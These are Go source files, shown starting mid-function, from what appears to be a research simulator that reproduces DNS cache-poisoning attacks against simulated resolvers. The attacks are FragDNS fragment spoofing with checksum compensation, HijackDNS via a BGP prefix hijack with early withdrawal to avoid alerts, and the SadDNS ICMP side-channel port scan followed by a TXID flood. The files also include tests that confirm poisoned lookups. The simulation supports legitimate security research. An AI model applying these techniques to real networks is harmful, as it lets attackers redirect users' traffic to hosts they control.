		for i := 0; i < a.IPIDGuesses; i++ {
			ids = append(ids, uint16(rng.Uint32()))
		}
	}
	a.idsBuf = ids
	for _, id := range ids {
		ipFrag := &packet.IPv4{
			ID: id, MF: false, FragOff: uint16(fragOff / 8), TTL: 64,
			Protocol: packet.ProtoUDP, Src: a.NSAddr, Dst: a.ResolverAddr,
			Payload: frag2,
		}
		a.Attacker.SendRawIP(ipFrag)
	}
}

// CraftSecondFragment takes the predicted full UDP payload (DNS
// response bytes), the path MTU the server will fragment at, and the
// malicious address. It returns the crafted second-and-final fragment
// payload plus its fragment byte offset within the IP payload.
//
// The craft patches the LAST A-record rdata found in the fragment and
// compensates the checksum delta in that record's TTL field, keeping
// the 16-bit ones-complement sum identical so the UDP checksum (sent
// in the first fragment) still verifies.
func CraftSecondFragment(dnsWire []byte, mtu int, spoof netip.Addr) (frag2 []byte, fragOff int, ok bool) {
	udpPayload := make([]byte, 0, len(dnsWire)+packet.UDPHeaderLen)
	udpPayload = append(udpPayload, make([]byte, packet.UDPHeaderLen)...) // placeholder header
	udpPayload = append(udpPayload, dnsWire...)
	chunk := (mtu - packet.IPv4HeaderLen) &^ 7
	if chunk <= 0 || len(udpPayload) <= chunk {
		return nil, 0, false // response does not fragment
	}
	// The server emits fragments of `chunk` bytes; the attacker
	// replaces everything after the first fragment.
	fragOff = chunk
	tail := append([]byte(nil), udpPayload[fragOff:]...)

	// Locate the last A rdata: scan the DNS message structurally.
	aOff, ttlOff, found := lastARecordOffsets(dnsWire)
	if !found {
		return nil, 0, false
	}
	aOff += packet.UDPHeaderLen // offsets within udpPayload
	ttlOff += packet.UDPHeaderLen
	if aOff < fragOff || ttlOff < fragOff {
		return nil, 0, false // target record not inside the second fragment
	}
	relA := aOff - fragOff
	relTTL := ttlOff - fragOff
	if relA+4 > len(tail) || relTTL+4 > len(tail) {
		return nil, 0, false
	}

	// The internet checksum sums big-endian 16-bit words, i.e. a byte
	// at even absolute offset weighs 256 and at odd offset weighs 1
	// (mod 65535). fragOff is 8-aligned, so parity inside `tail`
	// equals absolute parity. Patch the rdata, track the weighted
	// delta, then rewrite the record's low TTL bytes so the total sum
	// mod 65535 is unchanged — the UDP checksum in the genuine first
	// fragment then still verifies after reassembly.
	weight := func(p int) int64 {
		if p%2 == 0 {
			return 256
		}
		return 1
	}
	sp := spoof.As4()
	var delta int64
	for i := 0; i < 4; i++ {
		delta += (int64(sp[i]) - int64(tail[relA+i])) * weight(relA+i)
	}
	copy(tail[relA:relA+4], sp[:])

	// A signed zone's response carries an RRSIG covering the A RRset.
	// The attacker cannot produce a signature over the modified rdata,
	// so the craft must clear the marker's validity byte (folding the
	// change into the same checksum compensation); a validating
	// resolver then rejects the reassembled answer as bogus — DNSSEC
	// stops FragDNS (§6.1). A covering RRSIG that sits in the FIRST
	// fragment is out of the attacker's reach entirely: the genuine
	// valid marker would vouch for rdata the attacker rewrote, so the
	// craft conservatively refuses rather than model a forgery.
	for _, vOff := range rrsigValidityOffsets(dnsWire, dnswire.TypeA) {
		vOff += packet.UDPHeaderLen
		if vOff < fragOff {
			return nil, 0, false
		}
		rel := vOff - fragOff
		if rel >= len(tail) {
			continue
		}
		delta += (0 - int64(tail[rel])) * weight(rel)
		tail[rel] = 0
	}

	t2, t3 := relTTL+2, relTTL+3
	cur := int64(tail[t2])*weight(t2) + int64(tail[t3])*weight(t3)
	needed := mod65535(cur - delta)
	hi, lo := t2, t3
	if weight(hi) != 256 {
		hi, lo = lo, hi
	}
	tail[hi] = byte(needed >> 8)
	tail[lo] = byte(needed)
	return tail, fragOff, true
}

// mod65535 reduces x into [0, 65534] — the residue class the internet
// checksum computes in.
func mod65535(x int64) int64 {
	x %= 65535
	if x < 0 {
		x += 65535
	}
	return x
}

// lastARecordOffsets walks the DNS message and returns byte offsets of
// the last A record's rdata and TTL fields.
func lastARecordOffsets(msg []byte) (rdataOff, ttlOff int, found bool) {
	if len(msg) < dnswire.HeaderLen {
		return 0, 0, false
	}
	qd := int(binary.BigEndian.Uint16(msg[4:]))
	an := int(binary.BigEndian.Uint16(msg[6:]))
	ns := int(binary.BigEndian.Uint16(msg[8:]))
	ar := int(binary.BigEndian.Uint16(msg[10:]))
	off := dnswire.HeaderLen
	skipName := func() bool {
		for off < len(msg) {
			b := msg[off]
			if b == 0 {
				off++
				return true
			}
			if b&0xc0 == 0xc0 {
				off += 2
				return true
			}
			off += 1 + int(b)
		}
		return false
	}
	for i := 0; i < qd; i++ {
		if !skipName() || off+4 > len(msg) {
			return 0, 0, false
		}
		off += 4
	}
	for i := 0; i < an+ns+ar; i++ {
		if !skipName() || off+10 > len(msg) {
			return 0, 0, false
		}
		typ := binary.BigEndian.Uint16(msg[off:])
		tOff := off + 4
		rdlen := int(binary.BigEndian.Uint16(msg[off+8:]))
		rOff := off + 10
		if rOff+rdlen > len(msg) {
			return 0, 0, false
		}
		if typ == uint16(dnswire.TypeA) && rdlen == 4 {
			rdataOff, ttlOff, found = rOff, tOff, true
		}
		off = rOff + rdlen
	}
	return rdataOff, ttlOff, found
}

// rrsigValidityOffsets walks the DNS message and returns the byte
// offsets of the validity marker (rdata byte 4, see
// dnswire.RRSIGData) of every RRSIG record covering the given type.
func rrsigValidityOffsets(msg []byte, covered dnswire.Type) []int {
	if len(msg) < dnswire.HeaderLen {
		return nil
	}
	qd := int(binary.BigEndian.Uint16(msg[4:]))
	an := int(binary.BigEndian.Uint16(msg[6:]))
	ns := int(binary.BigEndian.Uint16(msg[8:]))
	ar := int(binary.BigEndian.Uint16(msg[10:]))
	off := dnswire.HeaderLen
	skipName := func() bool {
		for off < len(msg) {
			b := msg[off]
			if b == 0 {
				off++
				return true
			}
			if b&0xc0 == 0xc0 {
				off += 2
				return true
			}
			off += 1 + int(b)
		}
		return false
	}
	for i := 0; i < qd; i++ {
		if !skipName() || off+4 > len(msg) {
			return nil
		}
		off += 4
	}
	var offsets []int
	for i := 0; i < an+ns+ar; i++ {
		if !skipName() || off+10 > len(msg) {
			return nil
		}
		typ := binary.BigEndian.Uint16(msg[off:])
		rdlen := int(binary.BigEndian.Uint16(msg[off+8:]))
		rOff := off + 10
		if rOff+rdlen > len(msg) {
			return nil
		}
		if typ == uint16(dnswire.TypeRRSIG) && rdlen >= 5 &&
			binary.BigEndian.Uint16(msg[rOff:]) == uint16(covered) {
			offsets = append(offsets, rOff+4)
		}
		off = rOff + rdlen
	}
	return offsets
}

func (a *FragDNS) String() string {
	return fmt.Sprintf("FragDNS{%s %v -> %v, mtu=%d}", a.QName, a.QType, a.SpoofAddr, a.ForcedMTU)
}
