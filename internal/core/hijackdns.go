package core

import (
	"net/netip"
	"time"

	"crosslayer/internal/bgp"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/packet"
)

// HijackDNS intercepts the victim resolver's DNS query to the target
// nameserver with a BGP prefix hijack and answers it with spoofed
// records. Because the attacker SEES the query, it simply copies the
// challenge values — success is deterministic once the hijack is
// accepted (Table 6: hitrate 100%, 1 query, 2 packets).
type HijackDNS struct {
	Attacker *netsim.Host
	// HijackPrefix is announced by the attacker's AS; it must cover
	// the nameserver (or resolver) address being intercepted.
	HijackPrefix netip.Prefix
	// NSAddr is the nameserver whose traffic is intercepted.
	NSAddr netip.Addr
	Spoof  Spoof
	// SamePrefix announces the exact victim prefix instead of a
	// more-specific one; interception then depends on topology.
	SamePrefix bool
	// Withdraw the hijack as soon as the spoofed answer is sent
	// (short-lived hijacks "typically are ignored and do not trigger
	// alerts", §5.3.3).
	WithdrawAfter bool
}

// Run launches the hijack, calls trigger to make the resolver query
// the target, answers the intercepted query, and (optionally)
// withdraws. It returns after the virtual-time run completes.
func (h *HijackDNS) Run(trigger Trigger) Result {
	net := h.Attacker.Network()
	res := Result{Method: "HijackDNS"}
	start := net.Clock.Now()
	sentBefore := h.Attacker.Sent

	asn := h.Attacker.ASN
	info := net.AS(asn)
	prevInterceptor := info.Interceptor
	answered := false
	var successAt time.Duration
	info.Interceptor = func(ip *packet.IPv4) {
		if answered || ip.Protocol != packet.ProtoUDP || ip.Dst != h.NSAddr {
			return
		}
		u, err := packet.DecodeUDP(ip.Payload, ip.Src, ip.Dst, true)
		if err != nil || u.DstPort != 53 {
			return
		}
		query, err := dnswire.Unpack(u.Payload)
		if err != nil || query.Response || len(query.Questions) == 0 {
			return
		}
		q := query.Question()
		if !dnswire.EqualNames(q.Name, h.Spoof.QName) || q.Type != h.Spoof.QType {
			// Not the query we want: drop it (a production attack
			// would relay it to avoid blackholing alarms; the
			// simulator's detection model does not need that).
			return
		}
		answered = true
		successAt = net.Clock.Now()
		// Craft the spoofed response copying every challenge value
		// from the intercepted query: TXID, the exact (possibly
		// 0x20-encoded) question, source/destination ports.
		resp := &dnswire.Message{
			ID: query.ID, Response: true, Authoritative: true,
			RecursionDesired: query.RecursionDesired,
			Questions:        query.Questions,
			Answers:          h.Spoof.Records,
		}
		if sz, do, ok := query.EDNS(); ok {
			resp.SetEDNS(sz, do)
		}
		wire, err := resp.Pack()
		if err != nil {
			return
		}
		h.Attacker.SendUDPSpoofed(h.NSAddr, 53, ip.Src, u.SrcPort, wire)
		if h.WithdrawAfter {
			net.RIB.Withdraw(h.HijackPrefix, asn)
		}
	}

	// 1. Announce the hijack.
	if !net.RIB.Announce(h.HijackPrefix, asn) {
		info.Interceptor = prevInterceptor
		res.Detail = "announcement filtered (more specific than /24)"
		return res
	}
	res.AttackerPackets++ // the BGP announcement itself

	// 2. Trigger the query and let the race play out.
	res.QueriesTriggered = 1
	res.Iterations = 1
	trigger(func() {})
	net.Run()

	// 3. Clean up.
	if !h.WithdrawAfter {
		net.RIB.Withdraw(h.HijackPrefix, asn)
	}
	info.Interceptor = prevInterceptor
	res.Success = answered
	res.AttackerPackets += h.Attacker.Sent - sentBefore
	// Duration is the time until the spoofed answer reached the
	// resolver, not until all lingering timers drained.
	res.Duration = net.Clock.Now() - start
	if answered {
		res.Duration = successAt - start + 2*net.Latency()
	}
	if answered {
		res.Detail = "query intercepted, challenge values copied"
	} else if res.Detail == "" {
		res.Detail = "query never crossed the hijacked prefix"
	}
	return res
}

// SamePrefixInterceptionRate runs the §5.1.2 simulation: for n random
// (victim, attacker) pairs over topo, the fraction of observer ASes
// whose route to a same-prefix announcement selects the attacker.
func SamePrefixInterceptionRate(topo *bgp.Topology, prefix netip.Prefix, pairs [][2]bgp.ASN) float64 {
	if len(pairs) == 0 {
		return 0
	}
	observers := topo.ASNs()
	var total float64
	for _, p := range pairs {
		total += bgp.SamePrefixHijackWins(topo, prefix, p[0], p[1], observers)
	}
	return total / float64(len(pairs))
}
