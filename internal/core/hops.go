package core

import (
	"net/netip"

	"crosslayer/internal/netsim"
)

// Hop is one hop of the victim's resolution chain as an attack sees
// it: the querying host (whose socket the attacker must hit), the
// address genuine answers come from (the source a spoofed injection
// must carry), and the properties that decide how hard the hop is to
// attack. §4.3's observation is that a chain is only as strong as its
// weakest hop: a record injected at ANY hop's cache is served to the
// client, so attacks pick their target per-hop instead of assuming the
// recursive resolver is the victim's first hop.
type Hop struct {
	// Host is the querying host under attack at this hop.
	Host *netsim.Host
	// Addr is the hop's address.
	Addr netip.Addr
	// Upstream is where the hop's genuine answers come from — the next
	// hop up the chain (another forwarder, the recursive resolver, or
	// the authoritative nameserver).
	Upstream netip.Addr
	// Last marks the final hop (the recursive resolver itself).
	Last bool
	// UDPUpstream, when set, reports whether the hop's upstream
	// queries currently ride plaintext UDP (i.e. expose a spoofable
	// port/TXID surface). nil means plaintext — the pre-transport
	// chains all were.
	UDPUpstream func() bool
	// Opportunistic marks a hop whose encrypted upstream transport
	// falls back to plaintext when the session fails; ForceDowngrade
	// (set alongside it) strips the hop back to UDP, reporting whether
	// anything changed. The active downgrade attack uses both.
	Opportunistic  bool
	ForceDowngrade func() bool
}

// PlaintextUpstream reports whether the hop's upstream currently runs
// over spoofable plaintext UDP.
func (h Hop) PlaintextUpstream() bool {
	return h.UDPUpstream == nil || h.UDPUpstream()
}

// PortSpan returns the size of the hop's ephemeral source-port range —
// the search space a port-inference attack must cover. Hosts with port
// randomisation off expose a single port.
func (h Hop) PortSpan() int {
	if h.Host == nil {
		return 0
	}
	if !h.Host.Cfg.RandomizePorts {
		return 1
	}
	return int(h.Host.Cfg.PortMax) - int(h.Host.Cfg.PortMin) + 1
}

// WeakestPortHop picks the hop a port-inference attack (SadDNS) should
// target: the smallest ephemeral port span, ties going to the hop
// closest to the client (a record planted nearer the client shadows
// every hop behind it). Forwarder hops usually win — embedded devices
// expose ranges orders of magnitude below a server resolver's — which
// is also why resolver-side defenses (0x20, validation) do not protect
// a chain: the injection happens downstream of them.
//
// Hops whose upstream rides a stream transport expose no spoofable
// port at all, so the attack only considers plaintext-UDP hops; on an
// all-encrypted chain it falls back to the overall smallest span and
// runs (honestly) against a surface that does not exist.
func WeakestPortHop(hops []Hop) Hop {
	var best Hop
	found := false
	for _, h := range hops {
		if !h.PlaintextUpstream() {
			continue
		}
		if !found || h.PortSpan() < best.PortSpan() {
			best = h
			found = true
		}
	}
	if found {
		return best
	}
	best = hops[0]
	for _, h := range hops[1:] {
		if h.PortSpan() < best.PortSpan() {
			best = h
		}
	}
	return best
}

// FragmentationHop picks the hop a fragmentation attack (FragDNS)
// should target: the final recursive-resolver hop. Only its upstream —
// the authoritative nameserver — emits responses large enough to
// fragment; a forwarder's upstream is a resolver whose client-facing
// responses carry just the answer RRset, so forwarder hops are never
// candidates regardless of their fragment handling. The poisoned
// record still reaches every per-hop cache when the triggered answer
// flows back down the chain.
func FragmentationHop(hops []Hop) Hop {
	return hops[len(hops)-1]
}
