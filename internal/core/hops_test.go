package core_test

import (
	"testing"
	"time"

	"crosslayer/internal/core"
	"crosslayer/internal/dnssrv"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/resolver"
	"crosslayer/internal/scenario"
)

// buildHops converts a scenario's resolution chain into core hops the
// way the campaign does.
func buildHops(s *scenario.S) []core.Hop {
	sh := s.Hops()
	hops := make([]core.Hop, len(sh))
	for i, h := range sh {
		hops[i] = core.Hop{Host: h.Host, Addr: h.Addr, Upstream: h.Upstream, Last: i == len(sh)-1}
	}
	return hops
}

func TestWeakestPortHopSelection(t *testing.T) {
	// Entry hop: big span; inner hop: tiny span; resolver: full range.
	s := scenario.New(scenario.Config{Seed: 70, ForwarderChain: []scenario.ForwarderSpec{
		{PortSpan: 512}, {PortSpan: 64},
	}})
	hops := buildHops(s)
	if got := core.WeakestPortHop(hops); got.Addr != scenario.ForwarderIP(1) {
		t.Fatalf("weakest hop %v, want the inner forwarder", got.Addr)
	}
	// Ties go to the hop closest to the client: a record planted there
	// shadows everything behind it.
	s2 := scenario.New(scenario.Config{Seed: 70, ForwarderChain: []scenario.ForwarderSpec{
		{PortSpan: 64}, {PortSpan: 64},
	}})
	if got := core.WeakestPortHop(buildHops(s2)); got.Addr != scenario.ForwarderIP(0) {
		t.Fatalf("tie broke to %v, want the entry forwarder", got.Addr)
	}
	// Without a chain the resolver is the only — and weakest — hop.
	s3 := scenario.New(scenario.Config{Seed: 70})
	if got := core.WeakestPortHop(buildHops(s3)); got.Addr != scenario.ResolverIP || !got.Last {
		t.Fatalf("depth-0 weakest hop %v", got.Addr)
	}
	// A host with port randomisation off exposes a single port and
	// always wins.
	s3.ResolverHost.Cfg.RandomizePorts = false
	if got := core.WeakestPortHop(buildHops(s3)); got.PortSpan() != 1 {
		t.Fatalf("fixed-port host span %d, want 1", got.PortSpan())
	}
}

func TestFragmentationHopIsTheResolver(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 71, ForwarderChain: []scenario.ForwarderSpec{{}, {}}})
	got := core.FragmentationHop(buildHops(s))
	if got.Addr != scenario.ResolverIP || got.Upstream != scenario.NSIP {
		t.Fatalf("fragmentation hop %v->%v, want resolver->NS", got.Addr, got.Upstream)
	}
}

// TestSadDNSInjectsAtForwarderHop drives the chain-targeted SadDNS end
// to end at the core layer: the weakest hop is a forwarder, the spoof
// source is that hop's upstream, and the injected record lands in the
// per-hop cache — while the recursive resolver's own cache stays
// clean.
func TestSadDNSInjectsAtForwarderHop(t *testing.T) {
	cfg := scenario.Config{Seed: 72, ForwarderChain: []scenario.ForwarderSpec{{PortSpan: 64}}}
	cfg.ServerCfg = dnssrv.DefaultConfig()
	cfg.ServerCfg.RateLimit = true
	cfg.ServerCfg.RateLimitQPS = 10
	s := scenario.New(cfg)
	target := core.WeakestPortHop(buildHops(s))
	if !target.Addr.Is4() || target.Addr != scenario.ForwarderIP(0) {
		t.Fatalf("weakest hop %v, want the forwarder", target.Addr)
	}
	qname := "www.vict.im."
	atk := &core.SadDNS{
		Attacker:     s.Attacker,
		ResolverAddr: target.Addr,
		NSAddr:       scenario.NSIP,
		SpoofSource:  target.Upstream,
		Spoof: core.Spoof{QName: qname, QType: dnswire.TypeA,
			Records: []*dnswire.RR{dnswire.NewA(qname, 300, scenario.AttackerIP)}},
		PortMin: target.Host.Cfg.PortMin, PortMax: target.Host.Cfg.PortMax,
		MuteQPS: 20, MaxIterations: 10,
		CheckSuccess: func() bool { return s.ChainPoisoned(qname, dnswire.TypeA) },
	}
	res := atk.Run(core.TriggerDirect(s.ClientHost, s.DNSAddr(), qname, dnswire.TypeA))
	if !res.Success {
		t.Fatalf("chain saddns failed: %+v", res)
	}
	if !s.ChainPoisoned(qname, dnswire.TypeA) {
		t.Fatal("chain not poisoned")
	}
	if s.Poisoned(qname, dnswire.TypeA) {
		t.Fatal("resolver cache poisoned — injection should have happened at the forwarder")
	}
	// The poisoned hop keeps serving the attacker's record to clients.
	s.Clock.RunFor(30 * time.Second) // past any lingering attack timers
	var got []*dnswire.RR
	var lookupErr error
	resolver.StubLookup(s.ClientHost, s.DNSAddr(), qname, dnswire.TypeA, 10*time.Second,
		func(rrs []*dnswire.RR, err error) { got, lookupErr = rrs, err })
	s.Run()
	if lookupErr != nil || len(got) == 0 || !scenario.AttackerOwned(got) {
		t.Fatalf("client lookup after poisoning returned %v (err %v), want attacker record", got, lookupErr)
	}
}
