package core

import (
	"fmt"
	"net/netip"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/packet"
)

// SadDNS implements the side-channel attack of §3.2 / Figure 1:
//
//  1. Mute the target nameserver by tripping its response-rate
//     limiting with a query flood, so the genuine response loses the
//     race ("4000 queries to mute NS via query flood").
//  2. Trigger a query at the victim resolver; it opens an ephemeral
//     UDP port and waits.
//  3. Scan for that port with batches of 50 spoofed probes (source =
//     nameserver) followed by one verification probe from the
//     attacker's own address: if all 50 probed ports were closed the
//     global ICMP bucket (50/s) is exhausted and the verification gets
//     no reply; a reply means an open port is in the batch.
//  4. Divide and conquer inside the batch (padding each round with
//     probes to known-closed ports so exactly 50 tokens are at stake).
//  5. Flood the isolated port with 2^16 spoofed responses, one per
//     TXID.
type SadDNS struct {
	Attacker *netsim.Host
	// ResolverAddr is the host whose socket the attack races — the
	// recursive resolver, or a forwarder hop when a chain's weakest
	// hop sits downstream of the resolver (see WeakestPortHop).
	ResolverAddr netip.Addr
	// NSAddr is the authoritative nameserver muted via its RRL.
	NSAddr netip.Addr
	// SpoofSource is the address the spoofed probes and the TXID flood
	// claim to come from: the target hop's upstream (what it expects
	// answers from). Zero means NSAddr — the classic setting where the
	// target is the recursive resolver itself.
	SpoofSource netip.Addr
	Spoof       Spoof

	// PortMin/PortMax is the ephemeral range scanned (the OS default
	// range is public knowledge).
	PortMin, PortMax uint16
	// MuteQPS queries are flooded to the nameserver each second to
	// keep it muted (paper: 4000). 0 disables muting.
	MuteQPS int
	// WindowsPerQuery bounds how many one-second scan windows a single
	// triggered query is assumed to keep its port open (resolver
	// timeout × retransmissions).
	WindowsPerQuery int
	// MaxIterations bounds the number of triggered queries.
	MaxIterations int
	// CheckSuccess reports whether the poison took effect; evaluated
	// between iterations (a real attacker probes the cache through an
	// open resolver or forwarder).
	CheckSuccess func() bool

	// KnownClosedPort is a port the attacker knows is never bound on
	// the resolver (below the ephemeral range); used for padding and
	// verification probes.
	KnownClosedPort uint16

	cursor  uint16 // scan position across iterations
	floodAt time.Duration
	// muteWire caches the packed mute query (same bytes every window);
	// chunkBuf is the reused candidate-port batch. Both are per-run
	// scratch — the probe loops are the attack's hottest paths after
	// the TXID flood.
	muteWire []byte
	chunkBuf []uint16
}

// probePayload and padPayload are the fixed bodies of scan datagrams;
// package-level so the per-probe []byte("...") conversions do not
// allocate. SendUDPSpoofed serializes into its own buffer, so sharing
// is safe.
var (
	probePayload = []byte("probe")
	padPayload   = []byte("pad")
)

// Run executes the attack until success or MaxIterations.
func (a *SadDNS) Run(trigger Trigger) Result {
	if a.WindowsPerQuery <= 0 {
		a.WindowsPerQuery = 5
	}
	if a.MaxIterations <= 0 {
		a.MaxIterations = 1000
	}
	if a.KnownClosedPort == 0 {
		a.KnownClosedPort = 1001
	}
	if !a.SpoofSource.IsValid() {
		a.SpoofSource = a.NSAddr
	}
	if a.cursor < a.PortMin || a.cursor > a.PortMax {
		a.cursor = a.PortMin
	}
	net := a.Attacker.Network()
	clock := net.Clock
	res := Result{Method: "SadDNS"}
	start := clock.Now()
	sentBefore := a.Attacker.Sent

	// The verification-probe listener: one shared ICMP observer.
	verifyHit := false
	a.Attacker.OnICMP(func(src netip.Addr, msg *packet.ICMP) {
		if src == a.ResolverAddr && msg.IsPortUnreachable() {
			verifyHit = true
		}
	})
	defer a.Attacker.OnICMP(nil)

	for iter := 0; iter < a.MaxIterations; iter++ {
		res.Iterations++
		res.QueriesTriggered++
		a.runIteration(trigger, &verifyHit)
		net.Run()
		if a.CheckSuccess != nil && a.CheckSuccess() {
			res.Success = true
			break
		}
	}
	res.AttackerPackets = a.Attacker.Sent - sentBefore
	res.Duration = clock.Now() - start
	if res.Success && a.floodAt > start {
		// Time to poison: when the TXID flood landed.
		res.Duration = a.floodAt - start + 2*net.Latency()
	}
	res.Detail = fmt.Sprintf("scanned up to port %d", a.cursor)
	return res
}

// runIteration schedules one triggered query plus its scan slots. The
// scan is clocked to the victim's ICMP rate-limit windows (Linux:
// burst 50 refilled every 50ms): each slot burns one full bucket of 50
// probes plus the verification probe, so the side channel yields one
// bit ("was an open port among the 50?") per window. Divide and
// conquer then isolates the port in ~6 further windows — well within
// the seconds the resolver keeps the port open.
func (a *SadDNS) runIteration(trigger Trigger, verifyHit *bool) {
	net := a.Attacker.Network()
	clock := net.Clock
	slot := 50 * time.Millisecond
	if res := net.HostByAddr(a.ResolverAddr); res != nil {
		slot = res.ICMPWindow()
	}
	// Align to the next slot boundary so every batch lands inside one
	// bucket window.
	alignDelay := slot - clock.Now()%slot

	var candidates []uint16 // current suspect set (nil = scanning mode)
	found := uint16(0)

	clock.After(alignDelay, func() {
		a.mute()
		trigger(func() {})
	})
	// Keep the NS muted at every RRL window (1s) during the iteration.
	for sec := 1; sec < a.WindowsPerQuery; sec++ {
		clock.After(alignDelay+time.Duration(sec)*time.Second, func() {
			if found == 0 {
				a.mute()
			}
		})
	}

	nSlots := int(time.Duration(a.WindowsPerQuery)*time.Second/slot) - 2
	for i := 0; i < nSlots; i++ {
		t0 := alignDelay + 2*slot + time.Duration(i)*slot
		var batch []uint16
		clock.After(t0, func() {
			if found != 0 {
				return
			}
			*verifyHit = false
			if len(candidates) == 0 {
				batch = a.nextChunk(50)
			} else {
				batch = candidates[:(len(candidates)+1)/2]
			}
			// Probes and the verification probe are sent back to back:
			// FIFO delivery puts the verification last within the same
			// rate-limit window.
			a.probe(batch)
			a.Attacker.SendUDP(777, a.ResolverAddr, a.KnownClosedPort, []byte("verify"))
		})
		clock.After(t0+slot-slot/8, func() {
			if found != 0 {
				return
			}
			if *verifyHit {
				// An open port is inside batch.
				if len(batch) == 1 {
					found = batch[0]
					a.floodTXIDs(found)
					return
				}
				candidates = batch
			} else if len(candidates) > 0 {
				// Open port is in the other half.
				rest := candidates[(len(candidates)+1)/2:]
				if len(rest) == 1 {
					found = rest[0]
					a.floodTXIDs(found)
					return
				}
				candidates = rest
			}
			// Scanning mode miss: chunk was all closed, cursor already
			// advanced.
		})
	}
}

// mute floods the nameserver with queries to trip its RRL for the
// current window.
func (a *SadDNS) mute() {
	if a.MuteQPS <= 0 {
		return
	}
	if a.muteWire == nil {
		// The mute query is identical every window: pack it once per
		// run. SendUDP copies the payload, so the cached wire is never
		// mutated in flight.
		q := dnswire.NewQuery(0xdead, "mute."+dnswire.CanonicalName(a.Spoof.QName), dnswire.TypeA)
		wire, err := q.Pack()
		if err != nil {
			return
		}
		a.muteWire = wire
	}
	for i := 0; i < a.MuteQPS; i++ {
		a.Attacker.SendUDP(uint16(20000+i%1000), a.NSAddr, 53, a.muteWire)
	}
}

// probe sends spoofed datagrams (source = the target's upstream, port
// 53) to the given target ports, padding with known-closed ports so
// exactly 50 ICMP tokens are at stake.
func (a *SadDNS) probe(ports []uint16) {
	sent := 0
	for _, p := range ports {
		a.Attacker.SendUDPSpoofed(a.SpoofSource, 53, a.ResolverAddr, p, probePayload)
		sent++
	}
	for pad := 0; sent < 50; pad++ {
		a.Attacker.SendUDPSpoofed(a.SpoofSource, 53, a.ResolverAddr, a.KnownClosedPort-1-uint16(pad%900), padPayload)
		sent++
	}
}

// nextChunk returns the next batch of candidate ports, advancing the
// scan cursor with wraparound and skipping the resolver's service
// port.
func (a *SadDNS) nextChunk(n int) []uint16 {
	if cap(a.chunkBuf) < n {
		a.chunkBuf = make([]uint16, 0, n)
	}
	out := a.chunkBuf[:0]
	for len(out) < n {
		p := a.cursor
		if a.cursor >= a.PortMax {
			a.cursor = a.PortMin
		} else {
			a.cursor++
		}
		if p == 53 {
			continue
		}
		out = append(out, p)
	}
	return out
}

// floodTXIDs sends one spoofed response per possible TXID to the
// discovered port. The 64k responses differ only in their ID field
// (the first two wire bytes), so the message is packed once and the
// ID patched in place — SendUDPSpoofed serializes the payload into a
// fresh buffer before the next patch, so the reuse is safe. This
// keeps the flood (by far the hottest loop of a SadDNS run) from
// re-encoding an identical message 65536 times.
func (a *SadDNS) floodTXIDs(port uint16) {
	resp := &dnswire.Message{
		Response: true, Authoritative: true, RecursionDesired: true,
		Questions: []dnswire.Question{{Name: dnswire.CanonicalName(a.Spoof.QName), Type: a.Spoof.QType, Class: dnswire.ClassIN}},
		Answers:   a.Spoof.Records,
	}
	wire, err := resp.Pack()
	if err != nil {
		return
	}
	a.floodAt = a.Attacker.Network().Clock.Now()
	for txid := 0; txid < 1<<16; txid++ {
		wire[0] = byte(txid >> 8)
		wire[1] = byte(txid)
		a.Attacker.SendUDPSpoofed(a.SpoofSource, 53, a.ResolverAddr, port, wire)
	}
}
