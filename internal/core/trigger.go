package core

import (
	"net/netip"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/resolver"
)

// TriggerDirect makes a client host issue the target query straight to
// the victim resolver — the "direct" trigger of §4.3.1 (a lured web
// client, a script, an application under attacker influence).
func TriggerDirect(client *netsim.Host, resolverAddr netip.Addr, name string, typ dnswire.Type) Trigger {
	return func(done func()) {
		resolver.StubLookup(client, resolverAddr, name, typ, 30*time.Second,
			func([]*dnswire.RR, error) { done() })
	}
}

// TriggerViaForwarder issues the query through an open forwarder that
// relays to the victim resolver (§4.3.3) — the attacker needs no
// internal foothold at all.
func TriggerViaForwarder(attacker *netsim.Host, forwarderAddr netip.Addr, name string, typ dnswire.Type) Trigger {
	return func(done func()) {
		resolver.StubLookup(attacker, forwarderAddr, name, typ, 30*time.Second,
			func([]*dnswire.RR, error) { done() })
	}
}

// TriggerFunc adapts any niladic function (e.g. an application action
// like "send an email that bounces") into a Trigger.
func TriggerFunc(fn func()) Trigger {
	return func(done func()) {
		fn()
		done()
	}
}
