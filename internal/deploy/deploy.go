// Package deploy turns the simulator's binary realism toggles into
// measured deployment rates: instead of "every AS enforces egress
// filtering" or "the resolver validates DNSSEC", a named Dataset
// carries the fraction of the population that actually does — per-AS
// SAV rates, partial defense deployment, forwarder port-span and
// bailiwick distributions — and scenarios sample concrete worlds from
// it. That converts the campaign from "which configurations are
// vulnerable" (the config question) to "what fraction of a deployed
// population is" (the paper's §5 question).
//
// Determinism contract: every distribution draws from the package's
// own splitmix64 Rand, seeded by the caller from the identity-derived
// trial seed, in a fixed creation order. Sampling therefore inherits
// the campaign's reproducibility guarantees — filtered sweeps
// reproduce full-sweep cells byte-identically at any parallelism, and
// scenario.Reset re-samples exactly what a fresh build would.
package deploy

// Rand is a splitmix64 sequence: the cheap, stateless-to-seed
// deterministic source deployment sampling draws from. It is
// deliberately NOT math/rand — scenario resets re-derive every
// math/rand host stream in creation order, and deployment draws must
// neither consume nor disturb those streams.
type Rand struct {
	s uint64
}

// NewRand returns a sequence seeded with seed. Equal seeds yield equal
// sequences.
func NewRand(seed int64) *Rand { return &Rand{s: uint64(seed)} }

// Uint64 returns the next value of the sequence (splitmix64).
func (r *Rand) Uint64() uint64 {
	r.s += 0x9e3779b97f4a7c15
	z := r.s
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return z ^ (z >> 31)
}

// Float64 returns the next value mapped uniformly into [0, 1).
func (r *Rand) Float64() float64 {
	return float64(r.Uint64()>>11) / (1 << 53)
}

// Bernoulli is a deployment rate in [0, 1]: the fraction of the
// population for which the sampled property holds.
type Bernoulli float64

// Sample draws one member: true with probability b.
func (b Bernoulli) Sample(r *Rand) bool { return r.Float64() < float64(b) }

// Categorical is a weighted choice over len(Weights) options. Weights
// are integers so the distribution is exact; a zero-weight option is
// never drawn.
type Categorical struct {
	Weights []int
}

// Sample draws an option index. An empty or all-zero distribution
// returns 0.
